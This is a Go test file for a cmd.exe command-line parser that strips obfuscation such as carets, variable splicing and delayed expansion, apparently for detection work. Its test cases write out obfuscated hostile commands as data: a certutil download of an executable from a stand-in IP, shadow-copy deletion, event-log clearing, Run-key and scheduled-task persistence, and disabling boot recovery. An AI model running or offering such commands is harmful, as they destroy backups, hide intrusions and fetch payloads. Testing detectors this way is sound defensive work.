package cmdexe

import (
	"strings"
	"testing"
)

func flat(cs []Command) []string {
	var out []string
	for _, c := range cs {
		out = append(out, c.Name+" "+strings.Join(c.Args, " "))
	}
	return out
}

func TestParse(t *testing.T) {
	cases := []struct{ src, want string }{
		{"c^e^r^t^u^t^i^l -url^cache -f http://192.0.2.1/a.exe a.exe", "certutil -urlcache -f http://192.0.2.1/a.exe a.exe"},
		{"set x=vssadmin& call %x% delete shadows /all", "vssadmin delete shadows /all"},
		{"cmd /c \"whoami & net user\"", "cmd /c whoami & net user"},
		{"%COMSPEC:~-7,3% /c dir", "cmd /c dir"},
		{"set a=bcdedit\r\n%a% /set {default} recoveryenabled No", "bcdedit /set {default} recoveryenabled No"},
		{"@echo off\n\"C:\\Windows\\System32\\reg.exe\" add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v x /d c:\\x.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe"},
		{"for /f \"tokens=*\" %%i in ('wmic process call create calc') do echo %%i", "wmic process call create calc"},
		{"for /f %i in ('dir /b') do del %i", "del %i"},
		{"if not exist C:\\x mkdir C:\\x && schtasks /create /tn t /tr C:\\x\\a.exe /sc onlogon", "schtasks /create /tn t /tr C:\\x\\a.exe /sc onlogon"},
		{"start \"\" /b powershell -nop -c \"iex x\"", "powershell -nop -c iex x"},
		{"setlocal enabledelayedexpansion & set v=wevtutil& !v! cl Security", "wevtutil cl Security"},
		{"whoami > out.txt 2>&1 | findstr x", "findstr x"},
		{"sc create evil binPath= \"C:\\x.exe\" start= auto", "sc create evil binPath= C:\\x.exe start= auto"},
		{"set c=certutil\nset c=%c:cert=CERT%\n%c% -decode a b", "certutil -decode a b"},
		{"set a=cert&& set b=util&& call %a%%b% -decode in.b64 out.bin", "certutil -decode in.b64 out.bin"},
		{"set a=vss& set b=admin& %a%%b% delete shadows /all", "vssadmin delete shadows /all"},
		{"set \"p=wev\"|| set \"q=tutil\"|| %p%%q% cl System", "wevtutil cl System"},
		{"set d=C:\\Windows\\System32& set n=bcdedit& %d%\\%n%.exe /set {default} bootstatuspolicy ignoreallfailures", "bcdedit /set {default} bootstatuspolicy ignoreallfailures"},
		{"set c=call& set v=schtasks& %c% %v% /delete /tn t /f", "schtasks /delete /tn t /f"},
		{"setlocal enabledelayedexpansion& set a=reg& set b=!a! delete& !b! HKLM\\x /f", "reg delete HKLM\\x /f"},
		{"set x=y& %undefined%name arg", "%undefined%name arg"},
		{"set a=vss& set b=admin& cmd /c %a%%b% delete shadows", "cmd /c vssadmin delete shadows"},
		{"set w=shadows& vssadmin delete %w% /all", "vssadmin delete shadows /all"},
	}
	for _, c := range cases {
		got := flat(Parse(c.src))
		found := false
		for _, g := range got {
			if strings.HasPrefix(g, c.want) {
				found = true
			}
		}
		if !found {
			t.Errorf("Parse(%q): want %q in %q", c.src, c.want, got)
		}
	}
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"/c", "echo", "x"}, "echo x"},
		{[]string{"/c", "vssadmin list shadows"}, "vssadmin list shadows"},
		{[]string{"/C", "reg", "add", `HKLM\Software\A B`, "/v", "n"}, `reg add "HKLM\Software\A B" /v n`},
		{[]string{"/c", "echo", "a & b"}, `echo "a & b"`},
		{[]string{"/c", "echo", `say "hi" now`}, `echo say "hi" now`},
		{[]string{"/k"}, ""},
	} {
		if got := Inner(c.args); got != c.want {
			t.Errorf("Inner(%q) = %q, want %q", c.args, got, c.want)
		}
	}
	// A quoted argument with an operator in it is one argument of the
	// command cmd /c runs, not a second command.
	for _, c := range Parse(Inner([]string{"/c", "echo", "x & wevtutil cl Security"})) {
		if c.Name == "wevtutil" {
			t.Errorf("echo's quoted argument read as a command: %+v", c)
		}
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range []string{"a & b", "%x:~1,2%", "for /f %i in ('a') do b", "^", "\"", "set x=y\n%x%", "((((", "if a==b c", "start \"\" x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, c := range Parse(s) {
			if c.Start < 0 || c.End > len(s) || c.Start > c.End {
				t.Fatalf("bad span %d-%d in %d bytes", c.Start, c.End, len(s))
			}
		}
	})
}
